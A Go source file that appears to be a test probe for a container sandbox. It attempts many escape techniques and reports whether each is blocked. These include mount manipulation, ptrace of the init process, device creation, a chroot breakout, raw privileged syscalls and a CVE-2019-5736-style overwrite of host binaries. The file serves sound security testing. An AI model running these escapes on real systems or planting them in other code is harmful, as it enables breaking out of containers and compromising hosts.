// The runtime would keep files of the control group open:
//
//go:debug containermaxprocs=0

// Attacker runs in a container, tries to get out and says how far it came: a
// line "ATTEMPT: RESULT" for each attempt, with RESULT "ok" or the name of an errno.
package main

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"unsafe"

	"golang.org/x/sys/unix"
)

func main() {
	for _, verb := range os.Args[1:] {
		name, arg, _ := strings.Cut(verb, "=")
		switch name {
		case "fds":
			descriptors()
		case "write":
			open(arg, unix.O_WRONLY)
		case "read":
			open(arg, unix.O_RDONLY)
		case "mounts":
			mounts()
		case "trace":
			trace()
		case "devices":
			devices()
		case "keys":
			keys()
		case "session":
			id, err := unix.KeyctlGetKeyringID(unix.KEY_SPEC_SESSION_KEYRING, false)
			fmt.Println("session:", id, result(err))
		case "namespaces":
			namespaces()
		case "exe":
			overwrite()
		case "wait":
			select {}
		}
	}
}

func say(what string, err error) { fmt.Printf("%s: %s\n", what, result(err)) }

func result(err error) string {
	var errno unix.Errno
	switch {
	case err == nil:
		return "ok"
	case errors.As(err, &errno):
		return unix.ErrnoName(errno)
	}
	return err.Error()
}

// descriptors lists what is open, but for what this program opens itself: its runtime's
// event descriptors and the folder.
func descriptors() {
	entries, err := os.ReadDir("/proc/self/fd")
	say("fds", err)
	for _, e := range entries {
		target, err := os.Readlink("/proc/self/fd/" + e.Name())
		if err != nil || strings.HasPrefix(target, "anon_inode:[event") {
			continue
		}
		fmt.Printf("fd %s %s\n", e.Name(), target)
	}
	inside, err := os.ReadDir("/proc/1/fd")
	for _, fd := range inside {
		if _, err = os.Readlink("/proc/1/fd/" + fd.Name()); err == nil {
			break
		}
	}
	say("fds of the init", err)
	for _, link := range []string{"exe", "cwd", "root"} {
		_, err := os.Readlink("/proc/1/" + link)
		say(link+" of the init", err)
	}
}

func open(path string, flags int) {
	fd, err := unix.Open(path, flags|unix.O_NONBLOCK, 0)
	if err == nil && flags == unix.O_RDONLY {
		n, rerr := unix.Read(fd, make([]byte, 16))
		if err = rerr; err == nil && n == 0 {
			err = errors.New("empty")
		}
		if errors.Is(rerr, unix.EISDIR) {
			entries, _ := os.ReadDir(path)
			if err = nil; len(entries) == 0 {
				err = errors.New("empty")
			}
		}
	}
	var st unix.Stat_t
	if err == nil && unix.Fstat(fd, &st) == nil && st.Mode&unix.S_IFMT == unix.S_IFCHR && st.Rdev == unix.Mkdev(1, 3) {
		err = errors.New("/dev/null") // masked
	}
	if err == nil {
		unix.Close(fd)
	}
	say(path, err)
}

func mounts() {
	say("tmpfs", unix.Mount("none", "/tmp", "tmpfs", 0, ""))
	say("proc", unix.Mount("none", "/tmp", "proc", 0, ""))
	say("bind", unix.Mount("/proc/sys", "/tmp", "", unix.MS_BIND, ""))
	say("remount", unix.Mount("", "/proc/sys", "", unix.MS_REMOUNT|unix.MS_BIND, ""))
	say("umount", unix.Unmount("/proc/kcore", 0))
	say("detach", unix.Unmount("/proc/sys", unix.MNT_DETACH))
	_, err := unix.Fsopen("proc", 0)
	say("fsopen", err)
	_, err = unix.OpenTree(unix.AT_FDCWD, "/proc/sys", unix.OPEN_TREE_CLONE)
	say("open_tree", err)
	say("mount_setattr", unix.MountSetattr(unix.AT_FDCWD, "/proc/sys", 0, &unix.MountAttr{Attr_clr: unix.MOUNT_ATTR_RDONLY}))
	say("pivot_root", unix.PivotRoot("/tmp", "/tmp"))
}

func trace() {
	for pid, name := range map[int]string{1: "init", os.Getppid(): "parent"} {
		if err := unix.PtraceSeize(pid); err != nil {
			say("seize the "+name, err)
			continue
		}
		say("seize the "+name, nil)
	}
	fd, err := unix.Open("/proc/1/mem", unix.O_RDWR, 0)
	say("memory of the init", err)
	if err == nil {
		unix.Close(fd)
	}
	page := make([]byte, 16)
	local := unix.Iovec{Base: &page[0], Len: uint64(len(page))}
	_, err = unix.ProcessVMReadv(1, []unix.Iovec{local}, []unix.RemoteIovec{{Base: 0x400000, Len: len(page)}}, 0)
	say("process_vm_readv", err)
	pidfd, err := unix.PidfdOpen(1, 0)
	if err == nil {
		_, err = unix.PidfdGetfd(pidfd, 1, 0)
	}
	say("descriptor of the init", err)
}

func devices() {
	for name, d := range map[string]struct {
		kind         uint32
		major, minor uint32
	}{
		"mem": {unix.S_IFCHR, 1, 1}, "kmsg": {unix.S_IFCHR, 1, 11}, "disk": {unix.S_IFBLK, 8, 0}, "loop": {unix.S_IFBLK, 7, 0}, "fuse": {unix.S_IFCHR, 10, 229},
		"vd": {unix.S_IFBLK, 254, 0}, "tun": {unix.S_IFCHR, 10, 200}, "kvm": {unix.S_IFCHR, 10, 232}, "console of the host": {unix.S_IFCHR, 4, 0},
	} {
		file := "/tmp/" + strings.ReplaceAll(name, " ", "-")
		if err := unix.Mknod(file, d.kind|0o600, int(unix.Mkdev(d.major, d.minor))); err != nil {
			say(name, err)
			continue
		}
		fd, err := unix.Open(file, unix.O_RDWR|unix.O_NONBLOCK, 0)
		if err == nil {
			unix.Close(fd)
		}
		say(name, err)
	}
}

func keys() {
	_, err := unix.AddKey("user", "attacker", []byte("x"), unix.KEY_SPEC_SESSION_KEYRING)
	say("add_key", err)
	_, err = unix.KeyctlSearch(unix.KEY_SPEC_USER_KEYRING, "user", "anything", 0)
	say("keyctl", err)
}

func namespaces() {
	say("unshare user", unix.Unshare(unix.CLONE_NEWUSER))
	say("unshare mount", unix.Unshare(unix.CLONE_NEWNS))
	say("chroot out", chrootOut())
	handle := make([]byte, 256)
	_, _, errno := unix.Syscall6(unix.SYS_OPEN_BY_HANDLE_AT, ^uintptr(99), uintptr(unsafe.Pointer(&handle[0])), 0, 0, 0, 0)
	say("open_by_handle_at", errno)
	_, _, errno = unix.Syscall(unix.SYS_BPF, 0, 0, 0)
	say("bpf", errno)
	_, _, errno = unix.Syscall(unix.SYS_INIT_MODULE, 0, 0, 0)
	say("init_module", errno)
	_, _, errno = unix.Syscall(unix.SYS_KEXEC_LOAD, 0, 0, 0)
	say("kexec_load", errno)
}

// chrootOut is the oldest way out: a folder that one has left by chroot.
func chrootOut() error {
	if err := os.MkdirAll("/tmp/jail", 0o700); err != nil {
		return err
	}
	if err := unix.Chroot("/tmp/jail"); err != nil {
		return err
	}
	for range 64 {
		if err := os.Chdir(".."); err != nil {
			return err
		}
	}
	if err := unix.Chroot("."); err != nil {
		return err
	}
	if _, err := os.Stat("/attacker"); err != nil {
		return nil // out of the container
	}
	return errors.New("still inside")
}

// overwrite tries to write to whatever program enters the container, for as long as it
// can be seen (CVE-2019-5736).
func overwrite() {
	written := 0
	for range 3000 {
		exes, _ := filepath.Glob("/proc/[0-9]*/exe")
		for _, exe := range exes {
			if target, err := os.Readlink(exe); err == nil && (target == "/attacker" || strings.HasPrefix(target, "/bin/busybox")) {
				continue
			}
			fd, err := unix.Open(exe, unix.O_RDONLY, 0)
			if err != nil {
				continue
			}
			for _, flags := range []int{unix.O_WRONLY, unix.O_RDWR, unix.O_WRONLY | unix.O_TRUNC} {
				if w, err := unix.Open(fmt.Sprintf("/proc/self/fd/%d", fd), flags, 0); err == nil {
					unix.Write(w, []byte("overwritten"))
					unix.Close(w)
					written++
				}
			}
			unix.Close(fd)
		}
	}
	fmt.Println("overwritten:", written)
}
